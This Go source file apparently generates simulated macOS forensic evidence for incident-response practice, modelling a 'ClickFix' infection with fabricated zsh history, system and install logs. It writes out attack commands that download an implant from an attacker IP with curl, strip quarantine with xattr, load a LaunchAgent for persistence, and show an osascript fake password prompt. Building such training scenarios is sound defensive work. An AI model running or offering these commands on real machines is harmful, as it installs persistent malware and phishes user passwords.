package simhost

import (
	"fmt"
	"slices"
	"strings"
	"time"
)

// macAttack is a "ClickFix" infection: a fake verification page has the user paste commands into
// Terminal that fetch an implant, persist it as a LaunchAgent and phish the login password.
type macAttack struct {
	c2IP     string
	payload  []byte
	payPath  string
	label    string
	plist    string
	cmds     []timedCmd
	dlAt     time.Time
	plistAt  time.Time
	loadedAt time.Time
}

func (p *plan) planMacAttack() {
	r := newRNG(p.h.Seed, "mac-attack")
	u := p.users[0]
	a := &macAttack{c2IP: publicIP(r)}
	st := &p.story
	st.Access = "clickfix"
	st.AttackerIP = a.c2IP
	st.User = u.name
	port := pick(r, []int{80, 8080, 443})
	st.C2 = fmt.Sprintf("%s:%d", a.c2IP, port)
	a.label = pick(r, []string{"com.apple.updater", "com.google.keystone.agent", "com.adobe.acc.helper", "com.zoom.updater.login"})
	home := "/Users/" + u.name
	a.payPath = home + "/Library/Caches/." + a.label
	a.plist = home + "/Library/LaunchAgents/" + a.label + ".plist"
	a.payload = payload(p.h.Seed, "macho", st.C2)
	st.PayloadPath = a.payPath
	st.PayloadSHA256 = sha256Hex(a.payload)
	st.PersistencePath = a.plist
	st.Persistence = []string{a.plist}
	base := fmt.Sprintf("http://%s:%d", a.c2IP, port)
	if port == 80 {
		base = "http://" + a.c2IP
	}
	cmds := []string{
		"curl -fsSL " + base + "/mac/u -o ~/Library/Caches/." + a.label,
		"chmod +x ~/Library/Caches/." + a.label,
		"xattr -c ~/Library/Caches/." + a.label,
		"curl -fsSL " + base + "/mac/l.plist -o ~/Library/LaunchAgents/" + a.label + ".plist",
		"launchctl load -w ~/Library/LaunchAgents/" + a.label + ".plist",
		`osascript -e 'display dialog "macOS needs your password to continue." default answer "" with hidden answer'`,
	}
	// Pasted as one block, so the lines land a second or two apart.
	c := &clock{t: p.now.Add(-r.dur(20*time.Hour, 70*time.Hour)), r: r}
	st.FirstSuccess = c.t
	for _, cmd := range cmds {
		at := c.step(time.Second, 3*time.Second)
		a.cmds = append(a.cmds, timedCmd{at, cmd})
		switch {
		case strings.Contains(cmd, "/mac/u "):
			a.dlAt = at.Add(time.Second)
		case strings.Contains(cmd, "l.plist"):
			a.plistAt = at.Add(time.Second)
		case strings.HasPrefix(cmd, "launchctl"):
			a.loadedAt = at
		}
	}
	st.FirstSuccess = a.cmds[0].t
	st.Commands = cmds
	st.LastActivity = a.cmds[len(a.cmds)-1].t
	p.mac = a
}

func (p *plan) buildMac(t *tree) {
	r := newRNG(p.h.Seed, "macos")
	inst := p.installTime()
	u := p.users[0]
	home := "Users/" + u.name
	t.text("etc/hosts", "# Host Database\n#\n# localhost is used to configure the loopback interface.\n127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1             localhost\n", inst)

	// Terminal sessions: each opens a login shell (logged by login in system.log) and appends to history.
	book := &logBook{}
	var hist strings.Builder
	var histAt time.Time
	pool := []string{"ls -la", "cd ~/Projects", "git status", "git pull", "brew update", "brew upgrade", "code .",
		"python3 -m venv .venv", "npm install", "ssh jump01", "open .", "top -o cpu", "df -h", "softwareupdate -l",
		"networksetup -getinfo Wi-Fi", "pbpaste | wc -l", "docker compose up -d", "kubectl get pods", "history | tail"}
	type sess struct {
		start time.Time
		cmds  []timedCmd
	}
	var sessions []sess
	for at := p.start.Add(-r.dur(24*time.Hour, 20*24*time.Hour)); at.Before(p.now); at = at.Add(r.dur(4*time.Hour, 40*time.Hour)) {
		c := &clock{t: at, r: r}
		var cmds []timedCmd
		for range r.Between(1, 6) {
			cmds = append(cmds, timedCmd{c.step(5*time.Second, 4*time.Minute), pick(r, pool)})
		}
		if a := p.mac; a != nil && at.Before(a.cmds[len(a.cmds)-1].t.Add(time.Hour)) && at.After(a.cmds[0].t.Add(-2*time.Hour)) {
			continue // keep ordinary sessions clear of the attack's
		}
		if cmds[len(cmds)-1].t.Add(30 * time.Minute).Before(p.now) {
			sessions = append(sessions, sess{at, cmds})
		}
	}
	if a := p.mac; a != nil {
		sessions = append(sessions, sess{a.cmds[0].t.Add(-r.dur(10*time.Second, time.Minute)), a.cmds})
		slices.SortFunc(sessions, func(x, y sess) int { return x.start.Compare(y.start) })
	}
	for i, s := range sessions {
		pid := p.pidAt(r, s.start)
		dev := fmt.Sprintf("ttys%03d", i%3)
		book.add(s.start, "sys", fmt.Sprintf("login[%d]", pid), fmt.Sprintf("USER_PROCESS: %d %s", pid, dev))
		for _, c := range s.cmds {
			fmt.Fprintf(&hist, ": %d:%d;%s\n", c.t.Unix(), r.Intn(3), c.cmd)
		}
		// zsh appends at exit; a shell still open at the anchor has written nothing yet, which the
		// schedule above avoids by ending sessions well before it.
		end := s.cmds[len(s.cmds)-1].t.Add(r.dur(10*time.Second, 20*time.Minute))
		book.add(end, "sys", fmt.Sprintf("login[%d]", pid), fmt.Sprintf("DEAD_PROCESS: %d %s", pid, dev))
		histAt = s.cmds[len(s.cmds)-1].t
	}
	if hist.Len() > 0 {
		t.add(home+"/.zsh_history", []byte(hist.String()), histAt, 0o600)
	}

	// system.log: the routine of launchd and syslogd.
	for h := p.start; h.Before(p.now); h = h.Add(time.Hour) {
		if h.Hour() == 0 {
			book.add(h.Add(30*time.Minute), "sys", fmt.Sprintf("newsyslog[%d]", p.pidAt(r, h)), "logfile turned over")
		}
		if r.Chance(50) {
			book.add(h.Add(r.dur(0, 59*time.Minute)), "sys", "syslogd[131]", "ASL Sender Statistics")
		}
		if r.Chance(30) {
			book.add(h.Add(r.dur(0, 59*time.Minute)), "sys", "com.apple.xpc.launchd[1]",
				fmt.Sprintf("(com.apple.mdworker.shared.%X[%d]): Service exited due to SIGKILL | sent by mds[164]", r.bytes(4), p.pidAt(r, h)))
		}
	}
	if a := p.mac; a != nil {
		for i := 0; ; i++ {
			at := a.loadedAt.Add(time.Duration(i) * 10 * time.Minute)
			if at.After(p.now) || i > 400 {
				break
			}
			book.add(at.Add(2*time.Second), "sys", "com.apple.xpc.launchd[1]",
				fmt.Sprintf("(%s[%d]): Service exited with abnormal code: 1", a.label, p.pidAt(r, at)))
		}
	}
	sys := book.render(strings.ToLower(p.short), p.now, rfc3164)["sys"]
	t.text("var/log/system.log", sys.text, sys.last)
	p.macInstallLog(t, r, u)

	t.dir(home + "/Desktop")
	t.dir(home + "/Documents")
	t.add(home+"/Downloads/"+pick(r, []string{"Zoom.pkg", "GoogleChrome.dmg", "Slack-4.41.97-macOS.dmg"}), filler(r, []byte("koly"), r.Between(200, 900)<<10), inst.Add(5*24*time.Hour), 0o644)
	t.add(home+"/Documents/Notes.pdf", minimalPDF("Notes"), p.start.Add(-r.dur(time.Hour, 9*24*time.Hour)), 0o644)
	if a := p.mac; a != nil {
		t.add(strings.TrimPrefix(a.payPath, "/"), a.payload, a.dlAt, 0o755)
		plist := `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
	<key>Label</key>
	<string>` + a.label + `</string>
	<key>ProgramArguments</key>
	<array>
		<string>` + a.payPath + `</string>
	</array>
	<key>RunAtLoad</key>
	<true/>
	<key>StartInterval</key>
	<integer>600</integer>
</dict>
</plist>
`
		t.text(strings.TrimPrefix(a.plist, "/"), plist, a.plistAt)
	}
}

// macInstallLog writes install.log: software update checks and one ordinary application install.
func (p *plan) macInstallLog(t *tree, r *rng, u *user) {
	b := &logBook{}
	line := func(at time.Time, proc string, pid int, msg string) {
		b.add(at, "install", fmt.Sprintf("%s[%d]", proc, pid), msg)
	}
	suPID := 500 + r.Intn(300)
	for d := p.start; d.Before(p.now); d = d.Add(24 * time.Hour) {
		at := d.Add(r.dur(9*time.Hour, 17*time.Hour))
		line(at, "softwareupdated", suPID, "SUOSUScheduler: Scheduling next periodic check")
		line(at.Add(3*time.Second), "softwareupdated", suPID, "Background check: Scan found 0 updates")
	}
	app := pick(r, []string{"Microsoft Teams", "Zoom", "Google Chrome", "Slack"})
	pkg := "/Users/" + u.name + "/Downloads/" + strings.ReplaceAll(app, " ", "") + ".pkg"
	at := p.start.Add(r.dur(2*time.Hour, 3*24*time.Hour))
	ip, id := p.pidAt(r, at), p.pidAt(r, at)+40
	line(at, "Installer", ip, "Opened from: "+pkg)
	line(at.Add(time.Second), "Installer", ip, "Product archive "+pkg+" trustLevel=350")
	line(at.Add(20*time.Second), "installd", id, "PackageKit: ----- Begin install -----")
	line(at.Add(21*time.Second), "installd", id, "PackageKit: Extracting file://"+pkg+" (destination=/Library/InstallerSandboxes/.PKInstallSandboxManager/1.activeSandbox/Root/Applications, uid=0)")
	line(at.Add(40*time.Second), "installd", id, "PackageKit: Touched bundle /Applications/"+app+".app")
	line(at.Add(41*time.Second), "installd", id, "PackageKit: Installed \""+app+"\" ()")
	line(at.Add(41*time.Second), "installd", id, "PackageKit: ----- End install -----")
	line(at.Add(43*time.Second), "Installer", ip, "Install: \""+app+"\"")
	rd := b.render(strings.ToLower(p.short), p.now, func(t time.Time) string { return t.Format("2006-01-02 15:04:05-07") })["install"]
	t.text("var/log/install.log", rd.text, rd.last)
}
